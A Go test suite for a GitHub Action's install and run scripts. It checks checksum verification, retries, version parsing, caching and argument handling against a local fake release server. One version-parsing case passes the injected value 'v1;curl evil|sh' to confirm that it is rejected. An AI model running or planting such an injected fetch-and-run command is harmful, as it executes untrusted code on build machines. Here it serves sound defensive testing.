// Tests of the GitHub Action's scripts (action.yml): install.sh against a
// release served from 127.0.0.1 the way GitHub serves one, run.sh with the
// arguments a workflow passes.
package action_test

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"

	"gopkg.in/yaml.v3"
)

const (
	tag = "v0.0.0-test"
	ver = "0.0.0-test"
)

// astraBin is cmd/astra built once for all tests.
var astraBin string

func TestMain(m *testing.M) {
	dir, err := os.MkdirTemp("", "astra-action-test")
	if err != nil {
		panic(err)
	}
	astraBin = filepath.Join(dir, "astra")
	build := exec.Command("go", "build", "-trimpath", "-o", astraBin,
		"-ldflags", "-s -w -X github.com/astra-gitops/astra/internal/buildinfo.version="+tag, "../../cmd/astra")
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		fmt.Fprintf(os.Stderr, "go build ./cmd/astra: %v\n%s", err, out)
		os.Exit(1)
	}
	code := m.Run()
	os.RemoveAll(dir)
	os.Exit(code)
}

// releaseServer serves files under /<tag>/ like GitHub's release download
// URLs and counts the requests for each.
type releaseServer struct {
	*httptest.Server
	tag   string
	mu    sync.Mutex
	files map[string][]byte
	fail  map[string]int // name -> 503 responses left before serving it
	hits  map[string]int
}

func newReleaseServer(tb testing.TB, files map[string][]byte) *releaseServer {
	return newTagServer(tb, tag, files)
}

func newTagServer(tb testing.TB, tag string, files map[string][]byte) *releaseServer {
	s := &releaseServer{tag: tag, files: files, fail: map[string]int{}, hits: map[string]int{}}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		name, ok := strings.CutPrefix(r.URL.Path, "/"+tag+"/")
		s.mu.Lock()
		defer s.mu.Unlock()
		s.hits[name]++
		if s.fail[name] > 0 {
			s.fail[name]--
			http.Error(w, "try again", http.StatusServiceUnavailable)
			return
		}
		data, found := s.files[name]
		if !ok || !found {
			http.NotFound(w, r)
			return
		}
		w.Write(data)
	}))
	tb.Cleanup(s.Close)
	return s
}

func (s *releaseServer) total() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	n := 0
	for _, h := range s.hits {
		n += h
	}
	return n
}

var release = sync.OnceValues(func() (map[string][]byte, error) {
	bin, err := os.ReadFile(astraBin)
	if err != nil {
		return nil, err
	}
	files := map[string][]byte{
		"astra_" + ver + "_linux_amd64.tar.gz": tarGz("astra", bin),
		"astra_" + ver + "_windows_amd64.zip":  zipOf("astra.exe", bin),
	}
	files["checksums.txt"] = checksums(files)
	return files, nil
})

// goodRelease is what GoReleaser publishes for linux/amd64 and
// windows/amd64: the archives and checksums.txt. Callers may change the map.
func goodRelease(tb testing.TB) map[string][]byte {
	files, err := release()
	if err != nil {
		tb.Fatal(err)
	}
	return maps.Clone(files)
}

func checksums(files map[string][]byte) []byte {
	var b bytes.Buffer
	for name, data := range files {
		fmt.Fprintf(&b, "%x  %s\n", sha256.Sum256(data), name)
	}
	return b.Bytes()
}

// tarGz is an archive as GoReleaser packs it: the README and the binary.
// Writes to memory cannot fail.
func tarGz(name string, bin []byte) []byte {
	var b bytes.Buffer
	gz := gzip.NewWriter(&b)
	tw := tar.NewWriter(gz)
	for _, f := range []struct {
		name string
		data []byte
		mode int64
	}{{"README.md", []byte("# astra\n"), 0o644}, {name, bin, 0o755}} {
		tw.WriteHeader(&tar.Header{Name: f.name, Mode: f.mode, Size: int64(len(f.data))})
		tw.Write(f.data)
	}
	tw.Close()
	gz.Close()
	return b.Bytes()
}

func zipOf(name string, bin []byte) []byte {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	w, _ := zw.Create(name)
	w.Write(bin)
	zw.Close()
	return b.Bytes()
}

// runner is one job's environment: tool cache, GITHUB_PATH, GITHUB_OUTPUT.
type runner struct {
	cache, path, output string
	env                 []string
}

func newRunner(tb testing.TB, srv *releaseServer, extra ...string) *runner {
	dir := tb.TempDir()
	r := &runner{cache: filepath.Join(dir, "toolcache"), path: filepath.Join(dir, "github_path"), output: filepath.Join(dir, "github_output")}
	for _, p := range []string{r.path, r.output} {
		if err := os.WriteFile(p, nil, 0o644); err != nil {
			tb.Fatal(err)
		}
	}
	r.env = []string{
		"PATH=" + os.Getenv("PATH"), "HOME=" + dir, "TMPDIR=" + dir,
		"RUNNER_OS=Linux", "RUNNER_ARCH=X64", "RUNNER_TEMP=" + dir,
		"RUNNER_TOOL_CACHE=" + r.cache, "GITHUB_PATH=" + r.path, "GITHUB_OUTPUT=" + r.output,
		"ASTRA_VERSION=" + tag,
	}
	if srv != nil {
		r.env = append(r.env, "ASTRA_RELEASE_BASE_URL="+srv.URL)
	}
	r.env = append(r.env, extra...) // later entries win
	return r
}

func (r *runner) install() (string, error) {
	cmd := exec.Command("bash", "install.sh")
	cmd.Env = r.env
	out, err := cmd.CombinedOutput()
	return string(out), err
}

func read(tb testing.TB, path string) string {
	data, err := os.ReadFile(path)
	if err != nil {
		tb.Fatal(err)
	}
	return string(data)
}

func TestInstallRelease(t *testing.T) {
	srv := newReleaseServer(t, goodRelease(t))
	r := newRunner(t, srv)
	out, err := r.install()
	if err != nil {
		t.Fatalf("install: %v\n%s", err, out)
	}
	dir := filepath.Join(r.cache, "astra", ver, "x64")
	if got := read(t, r.path); got != dir+"\n" {
		t.Fatalf("GITHUB_PATH = %q, want %q", got, dir)
	}
	if _, err := os.Stat(dir + ".complete"); err != nil {
		t.Fatalf("no tool cache marker: %v", err)
	}
	version, err := exec.Command(filepath.Join(dir, "astra"), "version").CombinedOutput()
	if err != nil || !strings.HasPrefix(string(version), "astra ") {
		t.Fatalf("installed astra version: %v\n%s", err, version)
	}
	if srv.hits["checksums.txt"] != 1 || srv.hits["astra_"+ver+"_linux_amd64.tar.gz"] != 1 {
		t.Fatalf("requests: %v", srv.hits)
	}

	// The next step, or the next job on a self-hosted runner, uses the cache.
	before := srv.total()
	out, err = r.install()
	if err != nil || !strings.Contains(out, "from the tool cache") {
		t.Fatalf("second install: %v\n%s", err, out)
	}
	if srv.total() != before {
		t.Fatalf("second install downloaded again: %v", srv.hits)
	}
}

func TestInstallWindowsZip(t *testing.T) {
	srv := newReleaseServer(t, goodRelease(t))
	r := newRunner(t, srv, "RUNNER_OS=Windows")
	if out, err := r.install(); err != nil {
		t.Fatalf("install: %v\n%s", err, out)
	}
	if _, err := os.Stat(filepath.Join(r.cache, "astra", ver, "x64", "astra.exe")); err != nil {
		t.Fatal(err)
	}
}

// TestInstallRetries: a transient server error is retried, not fatal.
func TestInstallRetries(t *testing.T) {
	srv := newReleaseServer(t, goodRelease(t))
	srv.fail["astra_"+ver+"_linux_amd64.tar.gz"] = 1
	if out, err := newRunner(t, srv).install(); err != nil {
		t.Fatalf("install: %v\n%s", err, out)
	}
	if n := srv.hits["astra_"+ver+"_linux_amd64.tar.gz"]; n != 2 {
		t.Fatalf("%d requests for the archive, want 2", n)
	}
}

// TestInstallRefuses: whatever is wrong with a release, nothing is
// installed and the error says what.
func TestInstallRefuses(t *testing.T) {
	good := goodRelease(t)
	archive := "astra_" + ver + "_linux_amd64.tar.gz"
	tampered := map[string][]byte{archive: tarGz("astra", []byte("#!/bin/sh\necho pwned\n"))}
	tampered["checksums.txt"] = good["checksums.txt"]
	noAstra := map[string][]byte{archive: tarGz("other", []byte("x"))}
	noAstra["checksums.txt"] = checksums(noAstra)
	for _, tc := range []struct {
		name  string
		files map[string][]byte
		env   []string
		want  string
	}{
		{"bad checksum", tampered, nil,
			"checksum mismatch for " + archive},
		{"asset not in checksums.txt", map[string][]byte{archive: good[archive], "checksums.txt": []byte("")}, nil,
			"checksums.txt of astra " + tag + " does not list " + archive},
		{"missing asset", good, []string{"RUNNER_ARCH=ARM64"},
			"no release asset astra_" + ver + "_linux_arm64.tar.gz for linux/arm64 in astra " + tag},
		{"no such release", map[string][]byte{}, nil,
			"astra " + tag + " has no checksums.txt"},
		{"archive without astra", noAstra, nil,
			archive + " holds no astra"},
		{"unsupported runner", good, []string{"RUNNER_OS=Plan9"},
			`unsupported runner OS "Plan9"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			srv := newReleaseServer(t, tc.files)
			r := newRunner(t, srv, tc.env...)
			out, err := r.install()
			if err == nil {
				t.Fatalf("install succeeded:\n%s", out)
			}
			if !strings.Contains(out, tc.want) {
				t.Fatalf("output does not say %q:\n%s", tc.want, out)
			}
			t.Log(out)
			if got := read(t, r.path); got != "" {
				t.Fatalf("GITHUB_PATH = %q", got)
			}
			if m, _ := filepath.Glob(filepath.Join(r.cache, "astra", "*", "*")); len(m) != 0 {
				t.Fatalf("cached: %v", m)
			}
		})
	}
}

// TestInstallVersion: where the version comes from, and refs that are not
// a release are left to `go install`.
func TestInstallVersion(t *testing.T) {
	srv := newReleaseServer(t, goodRelease(t))
	sha := "0123456789abcdef0123456789abcdef01234567"
	for _, tc := range []struct {
		name   string
		env    []string
		source string // source-ref output; "" means installed from the release
		want   string // in the output
		fail   bool
	}{
		{"action ref", []string{"ASTRA_VERSION=", "ASTRA_ACTION_REF=" + tag}, "", "installed from", false},
		{"without v", []string{"ASTRA_VERSION=" + ver}, "", "installed from", false},
		{"action path", []string{"ASTRA_VERSION=", "GITHUB_ACTION_PATH=/home/runner/work/_actions/astra-gitops/astra/" + tag}, "", "installed from", false},
		{"commit", []string{"ASTRA_VERSION=" + sha}, sha, "is a commit: building astra from source", false},
		{"branch", []string{"ASTRA_VERSION=", "ASTRA_ACTION_REF=main"}, "main", `"main" is not a release version`, false},
		{"none", []string{"ASTRA_VERSION="}, "", "no astra version: pin the action to a release", true},
		{"not a ref", []string{"ASTRA_VERSION=v1;curl evil|sh"}, "", "is not a version, tag, branch or commit", true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := newRunner(t, srv, tc.env...)
			out, err := r.install()
			if (err != nil) != tc.fail || !strings.Contains(out, tc.want) {
				t.Fatalf("err %v, want failure %v; output does not say %q:\n%s", err, tc.fail, tc.want, out)
			}
			got := read(t, r.output)
			if tc.source != "" && got != "source-ref="+tc.source+"\n" {
				t.Fatalf("GITHUB_OUTPUT = %q", got)
			}
			if tc.source == "" && got != "" {
				t.Fatalf("GITHUB_OUTPUT = %q, want nothing", got)
			}
		})
	}
}

// TestInstallSnapshot installs the archives GoReleaser built into
// $ASTRA_SNAPSHOT_DIST (`make snapshot` runs it): the release's names,
// formats and checksums.txt are what install.sh expects, for every platform.
func TestInstallSnapshot(t *testing.T) {
	dist := os.Getenv("ASTRA_SNAPSHOT_DIST")
	if dist == "" {
		t.Skip("no snapshot: make snapshot runs this test on its dist/")
	}
	var meta struct{ Version string }
	if err := json.Unmarshal([]byte(read(t, filepath.Join(dist, "metadata.json"))), &meta); err != nil {
		t.Fatal(err)
	}
	files := map[string][]byte{}
	paths, _ := filepath.Glob(filepath.Join(dist, "*"))
	for _, p := range paths {
		if st, err := os.Stat(p); err == nil && st.Mode().IsRegular() {
			files[filepath.Base(p)] = []byte(read(t, p))
		}
	}
	srv := newTagServer(t, "v"+meta.Version, files)
	for _, goos := range []string{"Linux", "macOS", "Windows"} {
		for _, arch := range []string{"X64", "ARM64"} {
			r := newRunner(t, srv, "RUNNER_OS="+goos, "RUNNER_ARCH="+arch, "ASTRA_VERSION=v"+meta.Version)
			if out, err := r.install(); err != nil {
				t.Fatalf("%s %s: %v\n%s", goos, arch, err, out)
			}
			if goos == "Linux" && arch == "X64" && runtime.GOOS == "linux" && runtime.GOARCH == "amd64" {
				dir := strings.TrimSpace(read(t, r.path))
				if out, err := exec.Command(filepath.Join(dir, "astra"), "version").CombinedOutput(); err != nil {
					t.Fatalf("astra version: %v\n%s", err, out)
				}
			}
		}
	}
}

// fakeAstra is an astra that prints its pid and each argument on its own
// line, records its exit status where the real one does, and exits with
// $FAKE_EXIT.
func fakeAstra(t *testing.T) string {
	dir := t.TempDir()
	script := "#!/bin/sh\necho \"pid:$$\"\nfor a in \"$@\"; do echo \"arg:$a\"; done\n" +
		"[ -z \"$ASTRA_EXIT_STATUS_OUTPUT\" ] || echo \"exit_status=${FAKE_EXIT:-0}\" >> \"$ASTRA_EXIT_STATUS_OUTPUT\"\nexit \"${FAKE_EXIT:-0}\"\n"
	if err := os.WriteFile(filepath.Join(dir, "astra"), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	return dir
}

// runStep runs the action's astra step; out is what astra printed, less a
// fake astra's pid line, which must be the step's own pid: the script
// execs astra rather than waiting for it.
func runStep(t *testing.T, bindir string, env ...string) (out, output string, code int) {
	work := t.TempDir()
	// Files a glob in the arguments would expand to.
	for _, f := range []string{"nightly-a.yaml", "nightly-b.yaml"} {
		os.WriteFile(filepath.Join(work, f), nil, 0o644)
	}
	outFile := filepath.Join(work, "github_output")
	abs, _ := filepath.Abs("run.sh")
	cmd := exec.Command("bash", abs)
	cmd.Dir = work
	cmd.Env = append([]string{"PATH=" + bindir + string(os.PathListSeparator) + os.Getenv("PATH"), "HOME=" + work, "GITHUB_OUTPUT=" + outFile}, env...)
	b, err := cmd.CombinedOutput()
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	o, _ := os.ReadFile(outFile)
	out = string(b)
	if pid, rest, ok := strings.Cut(out, "\n"); ok && strings.HasPrefix(pid, "pid:") {
		if want := fmt.Sprintf("pid:%d", cmd.Process.Pid); pid != want {
			t.Errorf("astra ran as %s under the step's shell (%s): run.sh must exec it", pid, want)
		}
		out = rest
	}
	return out, string(o), code
}

func TestRunArguments(t *testing.T) {
	bin := fakeAstra(t)
	for _, tc := range []struct {
		name string
		env  []string
		want string
		code int
	}{
		{"globs stay literal", []string{"ASTRA_COMMAND=run-due", "ASTRA_ARGS=--only nightly-* --shard 1/4"},
			"arg:run-due\narg:--only\narg:nightly-*\narg:--shard\narg:1/4\n", 0},
		{"two-word command and dry run", []string{"ASTRA_COMMAND=ledger verify", "ASTRA_DRY_RUN_INPUT=true", "ASTRA_ARGS=*.yaml"},
			"arg:ledger\narg:verify\narg:--dry-run\narg:*.yaml\n", 0},
		{"multi-line args", []string{"ASTRA_COMMAND=run-due", "ASTRA_ARGS=--limit 20\n--shard 2/4\n"},
			"arg:run-due\narg:--limit\narg:20\narg:--shard\narg:2/4\n", 0},
		{"no args", []string{"ASTRA_COMMAND=validate", "ASTRA_DRY_RUN_INPUT=false"}, "arg:validate\n", 0},
		{"exit status", []string{"ASTRA_COMMAND=run-due", "FAKE_EXIT=1"}, "arg:run-due\n", 1},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out, output, code := runStep(t, bin, tc.env...)
			if out != tc.want || code != tc.code {
				t.Fatalf("exit %d, want %d; astra got:\n%s\nwant:\n%s", code, tc.code, out, tc.want)
			}
			if want := fmt.Sprintf("exit_status=%d\n", tc.code); output != want {
				t.Fatalf("GITHUB_OUTPUT = %q, want %q", output, want)
			}
		})
	}
	if out, _, code := runStep(t, bin, "ASTRA_COMMAND= "); code != 2 || !strings.Contains(out, "command input is empty") {
		t.Fatalf("empty command: exit %d\n%s", code, out)
	}
}

// TestRunRealAstra runs the built astra through the step.
func TestRunRealAstra(t *testing.T) {
	out, output, code := runStep(t, filepath.Dir(astraBin), "ASTRA_COMMAND=version")
	if code != 0 || !strings.HasPrefix(out, "astra ") || output != "exit_status=0\n" {
		t.Fatalf("exit %d, GITHUB_OUTPUT %q:\n%s", code, output, out)
	}
}

// TestActionSteps: action.yml runs these scripts, and keeps its inputs and
// outputs.
func TestActionSteps(t *testing.T) {
	var action struct {
		Inputs  map[string]any `yaml:"inputs"`
		Outputs map[string]any `yaml:"outputs"`
		Runs    struct {
			Steps []struct {
				ID  string `yaml:"id"`
				Run string `yaml:"run"`
			} `yaml:"steps"`
		} `yaml:"runs"`
	}
	if err := yaml.Unmarshal([]byte(read(t, "../../action.yml")), &action); err != nil {
		t.Fatal(err)
	}
	var runs []string
	for _, s := range action.Runs.Steps {
		if script, ok := strings.CutPrefix(s.Run, `bash "$GITHUB_ACTION_PATH/`); ok {
			script = strings.TrimSuffix(script, `"`)
			if _, err := os.Stat(filepath.Join("../..", script)); err != nil {
				t.Errorf("step %s: %v", s.ID, err)
			}
			runs = append(runs, s.ID+" "+script)
		}
	}
	if strings.Join(runs, ",") != "install scripts/action/install.sh,astra scripts/action/run.sh" {
		t.Errorf("script steps: %v", runs)
	}
	for _, in := range []string{"command", "dry-run", "args", "version", "go-version"} {
		if action.Inputs[in] == nil {
			t.Errorf("input %s is gone", in)
		}
	}
	for _, out := range []string{"ran", "failed", "skipped", "awaiting-approval", "exit-status", "matrix", "count", "max-parallel"} {
		if action.Outputs[out] == nil {
			t.Errorf("output %s is gone", out)
		}
	}
}

// BenchmarkInstall measures the action's install step against a local
// server: a fresh runner (download, verify, unpack) and a cached one.
func BenchmarkInstall(b *testing.B) {
	srv := newReleaseServer(b, goodRelease(b))
	b.Run("download", func(b *testing.B) {
		for b.Loop() {
			if out, err := newRunner(b, srv).install(); err != nil {
				b.Fatalf("%v\n%s", err, out)
			}
		}
	})
	b.Run("cached", func(b *testing.B) {
		r := newRunner(b, srv)
		if out, err := r.install(); err != nil {
			b.Fatalf("%v\n%s", err, out)
		}
		for b.Loop() {
			if out, err := r.install(); err != nil {
				b.Fatalf("%v\n%s", err, out)
			}
		}
	})
}
